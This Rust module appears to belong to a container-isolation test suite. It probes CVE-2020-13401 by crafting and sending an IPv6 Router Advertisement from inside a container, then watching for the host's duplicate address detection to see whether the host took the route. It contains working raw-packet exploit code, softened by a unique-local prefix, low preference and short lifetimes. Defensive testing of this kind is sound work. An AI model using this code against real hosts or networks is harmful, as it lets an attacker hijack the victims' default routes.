//! `route`: the host's IPv6 routing is the container's to change. A host end of a veth left
//! with `accept_ra=1` (the kernel's default) takes a Router Advertisement from the container:
//! a default route through the container and an address of the advertised prefix
//! (CVE-2020-13401 in docker). CAP_NET_RAW, in docker's set, is all it takes to send one.
//!
//! - In the host's own network namespace (`--host-net INODE`, the host's `/proc/self/ns/net`),
//!   no RA is sent on the host's links: with CAP_NET_ADMIN the routes are the container's to
//!   change outright, and that is the verdict.
//! - In a network namespace of its own, it sends one RA on each link that is up (but `lo`):
//!   to ff02::1, hop limit 255, a prefix [`PREFIX`]/64 to autoconfigure from, and a default
//!   router of low preference (the kernel installs it all the same; an attacker would say high,
//!   this is only a test). A host that takes the prefix makes itself an address in it and, before
//!   using it, asks whether anyone has it (duplicate address detection, RFC 4862: a Neighbor
//!   Solicitation whose target is that address, within `rtr_solicit_delay`, 1 s). Seen on the
//!   link within [`WAIT`], the host took the RA. The route and address go with the veth.
//! - Without `--host-net`, it cannot tell its network from the host's, and sends nothing.

use std::ffi::CStr;
use std::net::Ipv6Addr;
use std::time::{Duration, Instant};

use super::{sys, Outcome};

/// The prefix advertised (a unique local one, RFC 4193: routed nowhere).
pub const PREFIX: [u8; 8] = [0xfd, 0xdc, 0, 0xdc, 0, 0, 0, 0];

/// How long to watch for the host's duplicate address detection.
const WAIT: Duration = Duration::from_millis(2500);

const CAP_NET_ADMIN: u32 = 12;

pub fn attempt(host_net: Option<u64>) -> Outcome {
    let ours = match own_net() {
        Ok(inode) => inode,
        Err(why) => return Outcome::held(why),
    };
    let Some(host) = host_net else {
        return Outcome::held(
            "no --host-net: this network may be the host's, so no RA is sent (not tried)",
        );
    };
    if ours == host {
        let admin = crate::caps::capget().is_ok_and(|(eff, _)| eff & (1 << CAP_NET_ADMIN) != 0);
        return if admin {
            Outcome::through(
                "in the host's network namespace with CAP_NET_ADMIN: its routes are ours to \
                 change outright (no RA sent on the host's links)",
            )
        } else {
            Outcome::held("in the host's network namespace, without CAP_NET_ADMIN")
        };
    }
    let links = match links() {
        Ok(links) if links.is_empty() => {
            return Outcome::held("no link up but lo: no cable to the host")
        }
        Ok(links) => links,
        Err(why) => return Outcome::held(why),
    };
    let mut why = Vec::new();
    for link in &links {
        match advertise(link) {
            Ok(Some(address)) => {
                return Outcome::through(format!(
                    "RA sent on {}: the host made itself {address} from it (its duplicate \
                     address detection was seen): it took the prefix and the default route",
                    link.name
                ))
            }
            Ok(None) => why.push(format!(
                "RA sent on {}: no address of its prefix seen in {} ms",
                link.name,
                WAIT.as_millis()
            )),
            Err(e) => why.push(format!("{}: {e}", link.name)),
        }
    }
    Outcome::held(why.join("; "))
}

/// The inode of our network namespace: /proc/self/ns/net, or without /proc, a socket's
/// namespace (SIOCGSKNS, which asks for CAP_NET_ADMIN over it).
fn own_net() -> Result<u64, String> {
    use std::os::unix::fs::MetadataExt;
    if let Ok(meta) = std::fs::metadata("/proc/self/ns/net") {
        return Ok(meta.ino());
    }
    let sock = Fd::socket("AF_INET", libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    // SAFETY: SIOCGSKNS takes no argument and returns a new descriptor or -1.
    let ns = unsafe { libc::ioctl(sock.0, libc::SIOCGSKNS as _) };
    if ns < 0 {
        return Err(sys::error("no /proc, and ioctl(SIOCGSKNS)"));
    }
    let ns = Fd(ns);
    // SAFETY: an all-zero stat is valid for fstat to fill.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: ns is open; st is writable.
    if unsafe { libc::fstat(ns.0, &mut st) } != 0 {
        return Err(sys::error("fstat(network namespace)"));
    }
    Ok(st.st_ino)
}

/// A link that is up and not a loopback, with its link-local address if it has one yet.
struct Link {
    name: String,
    index: u32,
    local: Option<[u8; 16]>,
}

fn links() -> Result<Vec<Link>, String> {
    let mut head: *mut libc::ifaddrs = std::ptr::null_mut();
    // SAFETY: head is a valid out-pointer; the list is freed below.
    if unsafe { libc::getifaddrs(&mut head) } != 0 {
        return Err(sys::error("getifaddrs"));
    }
    let mut links: Vec<Link> = Vec::new();
    let mut cursor = head;
    while !cursor.is_null() {
        // SAFETY: cursor points into the live list getifaddrs returned.
        let ifa = unsafe { &*cursor };
        cursor = ifa.ifa_next;
        let up = ifa.ifa_flags & libc::IFF_UP as libc::c_uint != 0;
        let lo = ifa.ifa_flags & libc::IFF_LOOPBACK as libc::c_uint != 0;
        if ifa.ifa_name.is_null() || !up || lo {
            continue;
        }
        // SAFETY: ifa_name is a NUL-terminated string owned by the list.
        let name = unsafe { CStr::from_ptr(ifa.ifa_name) };
        let at = match links
            .iter()
            .position(|l| l.name.as_bytes() == name.to_bytes())
        {
            Some(at) => at,
            None => {
                // SAFETY: name is NUL-terminated.
                let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
                let name = name.to_string_lossy().into_owned();
                links.push(Link {
                    name,
                    index,
                    local: None,
                });
                links.len() - 1
            }
        };
        let addr = ifa.ifa_addr;
        // SAFETY: addr is null or a sockaddr of the family it announces.
        if !addr.is_null() && i32::from(unsafe { (*addr).sa_family }) == libc::AF_INET6 {
            // SAFETY: an AF_INET6 sockaddr is a sockaddr_in6.
            let ip = unsafe { (*(addr as *const libc::sockaddr_in6)).sin6_addr.s6_addr };
            // fe80::/10: link-local.
            if ip[0] == 0xfe && ip[1] & 0xc0 == 0x80 {
                links[at].local = Some(ip);
            }
        }
    }
    // SAFETY: head came from getifaddrs and is freed once.
    unsafe { libc::freeifaddrs(head) };
    Ok(links)
}

/// Sends the RA on `link` and watches the link for the host's duplicate address detection of
/// an address in [`PREFIX`]: that address, or `None` when none is seen in time.
fn advertise(link: &Link) -> Result<Option<Ipv6Addr>, String> {
    // Listening first, on the link itself (a packet socket sees every frame on it, the
    // solicitation's multicast group joined or not).
    let watch = Fd::socket(
        "AF_PACKET",
        libc::AF_PACKET,
        libc::SOCK_DGRAM,
        (libc::ETH_P_IPV6 as u16).to_be() as i32,
    )?;
    // SAFETY: an all-zero sockaddr_ll is valid; the fields set are the ones bind(2) reads.
    let mut at: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    at.sll_family = libc::AF_PACKET as u16;
    at.sll_protocol = (libc::ETH_P_IPV6 as u16).to_be();
    at.sll_ifindex = link.index as i32;
    let size = std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t;
    // SAFETY: at is a valid sockaddr_ll of that size.
    if unsafe { libc::bind(watch.0, (&at as *const libc::sockaddr_ll).cast(), size) } != 0 {
        return Err(sys::error("bind(AF_PACKET)"));
    }
    send_ra(link)?;
    let deadline = Instant::now() + WAIT;
    let mut buf = [0u8; 2048];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Ok(None);
        }
        let mut poll = libc::pollfd {
            fd: watch.0,
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one valid pollfd.
        if unsafe { libc::poll(&mut poll, 1, left.as_millis() as i32 + 1) } <= 0 {
            continue;
        }
        // SAFETY: buf is writable for its length.
        let n = unsafe { libc::recv(watch.0, buf.as_mut_ptr().cast(), buf.len(), 0) };
        if n <= 0 {
            continue;
        }
        if let Some(target) = solicited(&buf[..n as usize]) {
            if target[..8] == PREFIX {
                return Ok(Some(Ipv6Addr::from(target)));
            }
        }
    }
}

/// The target of a Neighbor Solicitation (ICMPv6 type 135) in an IPv6 packet with no
/// extension header.
fn solicited(packet: &[u8]) -> Option<[u8; 16]> {
    let (next_header, icmp) = (*packet.get(6)?, packet.get(40..)?);
    if next_header != libc::IPPROTO_ICMPV6 as u8 || *icmp.first()? != 135 {
        return None;
    }
    icmp.get(8..24)?.try_into().ok()
}

/// One Router Advertisement (RFC 4861 4.2) to all nodes on `link`, from a link-local source
/// (the only source a host takes an RA from).
fn send_ra(link: &Link) -> Result<(), String> {
    let sock = Fd::socket(
        "AF_INET6, SOCK_RAW, IPPROTO_ICMPV6",
        libc::AF_INET6,
        libc::SOCK_RAW,
        libc::IPPROTO_ICMPV6,
    )?;
    // 255: a host drops an RA that crossed a router (RFC 4861 6.1.2). Our link-local address
    // may still be tentative (the link was just set up): IPV6_FREEBIND lets us send from it.
    let int = |level, name, value: i32| {
        // SAFETY: an int option, passed by pointer with its size.
        let rc = unsafe { libc::setsockopt(sock.0, level, name, (&value as *const i32).cast(), 4) };
        if rc != 0 {
            return Err(sys::error("setsockopt"));
        }
        Ok(())
    };
    int(libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_HOPS, 255)?;
    int(
        libc::IPPROTO_IPV6,
        libc::IPV6_MULTICAST_IF,
        link.index as i32,
    )?;
    int(libc::IPPROTO_IPV6, libc::IPV6_FREEBIND, 1)?;
    let source = link
        .local
        .unwrap_or([0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xdc, 1]);
    let ra = router_advertisement();
    // SAFETY: an all-zero sockaddr_in6 is valid; family, address and scope are set below.
    let mut to: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
    to.sin6_family = libc::AF_INET6 as u16;
    to.sin6_addr.s6_addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1).octets();
    to.sin6_scope_id = link.index;
    let info = libc::in6_pktinfo {
        ipi6_addr: libc::in6_addr { s6_addr: source },
        ipi6_ifindex: link.index,
    };
    // SAFETY: CMSG_SPACE only computes a size.
    let space = unsafe { libc::CMSG_SPACE(std::mem::size_of::<libc::in6_pktinfo>() as u32) };
    let mut control = vec![0u8; space as usize];
    let mut iov = libc::iovec {
        iov_base: ra.as_ptr() as *mut libc::c_void,
        iov_len: ra.len(),
    };
    // SAFETY: an all-zero msghdr is valid; every pointer set below outlives sendmsg.
    let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
    msg.msg_name = (&mut to as *mut libc::sockaddr_in6).cast();
    msg.msg_namelen = std::mem::size_of::<libc::sockaddr_in6>() as u32;
    msg.msg_iov = &mut iov;
    msg.msg_iovlen = 1;
    msg.msg_control = control.as_mut_ptr().cast();
    msg.msg_controllen = control.len() as _;
    // SAFETY: msg has room for one control message holding an in6_pktinfo.
    unsafe {
        let cmsg = libc::CMSG_FIRSTHDR(&msg);
        (*cmsg).cmsg_level = libc::IPPROTO_IPV6;
        (*cmsg).cmsg_type = libc::IPV6_PKTINFO;
        (*cmsg).cmsg_len = libc::CMSG_LEN(std::mem::size_of::<libc::in6_pktinfo>() as u32) as _;
        std::ptr::write_unaligned(libc::CMSG_DATA(cmsg).cast(), info);
    }
    // SAFETY: msg is fully set up above.
    if unsafe { libc::sendmsg(sock.0, &msg, 0) } < 0 {
        return Err(sys::error("sendmsg(router advertisement)"));
    }
    Ok(())
}

/// The RA's ICMPv6 message: the kernel fills in the checksum of a raw ICMPv6 socket.
fn router_advertisement() -> Vec<u8> {
    let lifetime: u16 = 30;
    let mut ra = vec![
        134, 0, 0, 0,    // type, code, checksum
        64,   // the hop limit hosts should use
        0x18, // no DHCPv6; preference low (RFC 4191)
    ];
    ra.extend(lifetime.to_be_bytes()); // as a default router, in seconds
    ra.extend([0u8; 8]); // reachable time, retransmission timer: unspecified
                         // Prefix information (RFC 4861 4.6.2): type 3, 4 × 8 bytes, a /64, on-link and
                         // autonomous (the host makes its own address in it), valid and preferred 30 s.
    ra.extend([3, 4, 64, 0xc0]);
    ra.extend(30u32.to_be_bytes());
    ra.extend(30u32.to_be_bytes());
    ra.extend([0u8; 4]);
    ra.extend(PREFIX);
    ra.extend([0u8; 8]);
    ra
}

/// A descriptor, closed when dropped.
struct Fd(libc::c_int);

impl Fd {
    fn socket(what: &str, domain: i32, kind: i32, protocol: i32) -> Result<Fd, String> {
        // SAFETY: plain socket(2).
        let fd = unsafe { libc::socket(domain, kind | libc::SOCK_CLOEXEC, protocol) };
        if fd < 0 {
            return Err(sys::error(&format!("socket({what})")));
        }
        Ok(Fd(fd))
    }
}

impl Drop for Fd {
    fn drop(&mut self) {
        // SAFETY: the descriptor is ours and closed once.
        unsafe { libc::close(self.0) };
    }
}
